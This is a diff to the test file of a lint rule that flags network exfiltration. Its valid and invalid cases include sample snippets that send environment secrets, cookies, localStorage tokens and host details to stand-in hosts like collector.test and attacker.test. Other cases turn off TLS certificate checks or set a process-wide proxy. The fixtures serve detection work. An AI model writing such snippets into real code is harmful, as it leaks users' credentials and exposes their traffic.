@@ -20,6 +20,21 @@ ruleTester(rule, {
     'const s = \'fetch("https://evil.test")\';',
     "import { STATUS_CODES } from 'http'; console.log(STATUS_CODES[404]);",
     "const regex = /x/; regex.exec('fetch');",
+    // `.send` on things that are not connections, storage writes, cookies set rather than read.
+    'function beacon(ws) { ws.send(sessionStorage.draft); }',
+    "app.get('/', (req, res) => res.send(document.cookie));",
+    'process.send({ type: "ready" });',
+    "localStorage.setItem('theme', 'dark'); document.cookie = 'a=1';",
+    "import dgram from 'dgram'; type S = dgram.Socket;",
+    // Wrappers given ordinary data, and local functions that do not send their arguments.
+    'function post(body) { return body; } post(process.env.API_KEY);',
+    "import os from 'os'; function log(m) { console.log(m); } log(os.hostname());",
+    "import os from 'os'; const host = os.hostname(); console.log(host);",
+    'const agent = new https.Agent({ rejectUnauthorized: true, keepAlive: true });',
+    "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1';",
+    "process.env.HTTPS_PROXY = '';",
+    "const img = document.createElement('img'); img.alt = 'logo';",
+    "const theme = localStorage.getItem('theme'); document.body.className = theme;",
   ],
   invalid: [
     {
@@ -74,8 +89,22 @@ ruleTester(rule, {
     { code: "import tls from 'tls'; tls.connect(443, 'h.test');", errors: [{ messageId: 'socket' }] },
     {
       code: "import dgram from 'dgram'; const s = dgram.createSocket('udp4'); s.send(msg, 53, '198.51.100.7');",
-      errors: [{ messageId: 'socket' }],
+      errors: [{ messageId: 'udp', severity: 'medium' }, { messageId: 'socket' }],
     },
+    {
+      code: "const dgram = require('node:dgram');\nconst socket = dgram.createSocket('udp4');",
+      errors: [
+        {
+          messageId: 'udp',
+          line: 2,
+          severity: 'medium',
+          message:
+            '`dgram.createSocket` creates a UDP socket: datagrams can go to any host and port without a connection, a common way to ship data out quietly.',
+        },
+      ],
+    },
+    { code: "import { createSocket as cs } from 'dgram'; const s = cs({ type: 'udp6' });", errors: [{ messageId: 'udp' }] },
+    { code: "const d = require('dgram'); const s = new d.Socket();", errors: [{ messageId: 'udp' }] },
     { code: "const dns = require('dns'); dns.resolveTxt(`${data}.attacker.test`, () => {});", errors: [{ messageId: 'dns' }] },
     { code: "import { lookup } from 'node:dns/promises'; await lookup(host);", errors: [{ messageId: 'dns' }] },
     { code: "import dns from 'dns'; await dns.promises.resolve4(name);", errors: [{ messageId: 'dns' }] },
@@ -84,7 +113,33 @@ ruleTester(rule, {
     { code: "import WebSocket from 'ws'; const ws = new WebSocket('wss://x.test');", errors: [{ messageId: 'socket' }] },
     { code: "const { WebSocket: WS } = require('ws'); new WS(url);", errors: [{ messageId: 'socket' }] },
     { code: "import { io } from 'socket.io-client'; const s = io('https://x.test');", errors: [{ messageId: 'socket' }] },
-    { code: "const xhr = new XMLHttpRequest(); xhr.open('POST', 'https://x.test/c'); xhr.send(body);", errors: [{ messageId: 'request' }] },
+    {
+      code: "const xhr = new XMLHttpRequest(); xhr.open('POST', 'https://x.test/c'); xhr.send(body);",
+      errors: [
+        { messageId: 'request' },
+        { messageId: 'send', severity: 'low', message: '`XMLHttpRequest().send` sends `body` over the network.' },
+      ],
+    },
+    {
+      code: "function reportSlow(durationMs) {\n  const Xhr = (window as any)['XMLHttp' + 'Request'];\n  const xhr = new Xhr();\n  xhr.open('POST', 'https://perf.test/slow', true);\n  xhr.send(JSON.stringify({ durationMs, page: location.pathname, c: document.cookie }));\n}",
+      errors: [
+        { messageId: 'exfil', line: 4, severity: 'high' },
+        { messageId: 'sendExfil', line: 5, severity: 'high' },
+      ],
+    },
+    {
+      code: "const x = new window.XMLHttpRequest(); x.send(localStorage.getItem('token'));",
+      errors: [{ messageId: 'sendExfil', severity: 'high' }],
+    },
+    {
+      code: "const ws = new WebSocket('wss://x.test'); ws.onopen = () => ws.send('hi');",
+      errors: [{ messageId: 'socket' }, { messageId: 'send' }],
+    },
+    {
+      code: "import WebSocket from 'ws'; const ws = new WebSocket(u); ws.on('open', () => ws.send(JSON.stringify({ env: process.env })));",
+      errors: [{ messageId: 'socket' }, { messageId: 'sendExfil', severity: 'high' }],
+    },
+
     { code: 'export const xhr = new XMLHttpRequest();', errors: [{ messageId: 'client', severity: 'low' }] },
     { code: "navigator.sendBeacon('https://t.test/b', payload);", errors: [{ messageId: 'request' }] },
     { code: "const es = new EventSource('/events');", errors: [{ messageId: 'request', severity: 'low' }] },
@@ -126,13 +181,34 @@ ruleTester(rule, {
       code: "async function leak() {\n  const key = process.env.AWS_SECRET_ACCESS_KEY;\n  await fetch('https://collector.test/k', { method: 'POST', body: key });\n}",
       errors: [
         {
+          messageId: 'collected',
+          line: 2,
+          severity: 'high',
+          message: '`process.env.AWS_SECRET_ACCESS_KEY` is gathered here and sent out by `fetch` on line 3.',
+        },
+        {
           messageId: 'exfil',
           line: 3,
           severity: 'high',
           message:
-            '`fetch` sends a network request to `https://collector.test/k` in code that also reads `process.env.AWS_SECRET_ACCESS_KEY`: secret or file data may flow into a network request.',
+            '`fetch` sends a network request to `https://collector.test/k` in code that also reads `process.env.AWS_SECRET_ACCESS_KEY`: secret, file or machine data may flow into a network request.',
         },
       ],
+    },
+    {
+      code: "const { get: httpsGet } = require('node:https');\nfunction check(v) {\n  const ctx = Buffer.from(JSON.stringify(process.env)).toString('base64url');\n  const req = httpsGet(`${URL}?v=${v}&ctx=${ctx}`, () => {});\n}",
+      errors: [
+        { messageId: 'collected', line: 3, severity: 'high' },
+        { messageId: 'exfil', line: 4, severity: 'high' },
+      ],
+    },
+    {
+      code: 'async function f() {\n  const url = new URL(process.env.ID_TOKEN_REQUEST_URL);\n  return fetch(url.href, { headers: { Authorization: `Bearer ${process.env.ID_TOKEN}` } });\n}',
+      errors: [{ messageId: 'exfil', line: 3, severity: 'medium' }],
+    },
+    {
+      code: "function f() { const token = localStorage.getItem('jwt'); return fetch('/api/me', { headers: { Authorization: `Bearer ${token}` } }); }",
+      errors: [{ messageId: 'exfil', severity: 'medium' }],
     },
     {
       code: "import axios from 'axios'; await axios.post(url, { key: process.env.AWS_SECRET_ACCESS_KEY });",
@@ -184,6 +260,86 @@ ruleTester(rule, {
       errors: [{ messageId: 'request' }],
     },
     { code: 'function load() { const u = process.env.API_URL; return fetch(u); }', errors: [{ messageId: 'request', severity: 'medium' }] },
+    // Data handed to a function of this file that sends its argument.
+    {
+      code: "import os from 'node:os';\nimport WebSocket from 'ws';\nexport class Stream {\n  constructor(url) {\n    this.ws = new WebSocket(url);\n  }\n  hello() {\n    this.send({ type: 'hello', host: os.hostname(), user: os.userInfo().username });\n  }\n  send(msg) {\n    this.ws.send(JSON.stringify(msg));\n  }\n}",
+      errors: [
+        { messageId: 'socket', line: 5 },
+        {
+          messageId: 'wrappedExfil',
+          line: 8,
+          severity: 'high',
+          message:
+            '`this.send` hands `os.hostname()` to a function that sends its argument over the network (`this.ws.send(JSON.stringify(msg))`): the data leaves through the wrapper.',
+        },
+        { messageId: 'send', line: 11, severity: 'low', message: '`ws().send` sends `JSON.stringify(msg)` over the network.' },
+      ],
+    },
+    {
+      code: "function post(body) { return fetch('https://x.test/in', { method: 'POST', body }); }\nconst payload = JSON.stringify(process.env);\npost(payload);",
+      errors: [
+        { messageId: 'request', line: 1 },
+        { messageId: 'wrappedExfil', line: 3, severity: 'high' },
+      ],
+    },
+    {
+      code: "import { hostname } from 'os'; const log = (m) => navigator.sendBeacon('/log', m); log(hostname());",
+      errors: [{ messageId: 'request', severity: 'low' }, { messageId: 'wrappedExfil' }],
+    },
+    {
+      code: "import os from 'os'; export async function report(e) { await fetch('https://errors.test/in', { method: 'POST', body: JSON.stringify({ e, host: os.hostname() }) }); }",
+      errors: [{ messageId: 'exfil', severity: 'high' }],
+    },
+    // Image beacons, whole browser storage.
+    {
+      code: "const img = new Image();\nimg.src = 'https://t.test/p?c=' + encodeURIComponent(document.cookie);",
+      errors: [{ messageId: 'exfil', line: 2, severity: 'high' }],
+    },
+    { code: 'const i = new window.Image(); i.src = `/pixel.gif?page=${page}`;', errors: [{ messageId: 'request', severity: 'low' }] },
+    {
+      code: "await fetch('https://x.test/s', { method: 'POST', body: JSON.stringify(localStorage) });",
+      errors: [{ messageId: 'exfil', severity: 'high' }],
+    },
+    // Connections weakened for everyone: TLS checks off, a proxy for the whole process.
+    {
+      code: "import https from 'https'; const agent = new https.Agent({ rejectUnauthorized: false });",
+      errors: [
+        {
+          messageId: 'tlsOff',
+          severity: 'medium',
+          message:
+            '`rejectUnauthorized: false` turns off TLS certificate checks: anyone on the network path can read and change this traffic, keys and tokens included.',
+        },
+      ],
+    },
+    { code: 'const pool = new Pool({ ssl: { rejectUnauthorized: false } });', errors: [{ messageId: 'tlsOff' }] },
+    { code: 'request({ url, strictSSL: false }, cb);', errors: [{ messageId: 'tlsOff' }] },
+    {
+      code: "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
+      errors: [{ messageId: 'tlsOffGlobal', severity: 'high' }],
+    },
+    { code: "process.env['NODE_TLS_REJECT_' + 'UNAUTHORIZED'] = 0;", errors: [{ messageId: 'tlsOffGlobal' }] },
+    {
+      code: "spawn('node', ['x.js'], { env: { ...process.env, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });",
+      errors: [{ messageId: 'tlsOffGlobal' }],
+    },
+    { code: "import https from 'https'; https.globalAgent.options.rejectUnauthorized = false;", errors: [{ messageId: 'tlsOffGlobal' }] },
+    {
+      code: "process.env.HTTPS_PROXY = 'http://10.1.2.3:8080';",
+      errors: [
+        {
+          messageId: 'proxy',
+          severity: 'high',
+          message:
+            "`process.env.HTTPS_PROXY = 'http://10.1.2.3:8080'` routes every request of the process through `http://10.1.2.3:8080`: whoever runs that proxy sees and can change all traffic.",
+        },
+      ],
+    },
+    {
+      code: 'const agent = new https.Agent({ rejectUnauthorized: false });',
+      filename: 'test/server.test.ts',
+      errors: [{ messageId: 'tlsOff', severity: 'low' }],
+    },
     { code: "import axios from 'axios'; export default axios;", errors: [{ messageId: 'unfollowed', severity: 'low' }] },
     { code: "import * as https from 'https'; makeClient(https);", errors: [{ messageId: 'unfollowed' }] },
   ],
